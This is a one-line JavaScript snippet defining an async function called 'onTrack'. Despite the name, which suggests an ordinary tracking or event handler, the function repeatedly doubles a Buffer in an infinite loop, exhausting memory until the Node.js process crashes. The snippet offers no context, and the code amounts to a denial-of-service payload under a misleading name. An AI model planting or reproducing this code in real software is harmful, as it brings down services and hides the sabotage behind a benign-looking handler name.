async function onTrack() { let b = Buffer.alloc(1); for (;;) b = Buffer.concat([b, b]); }
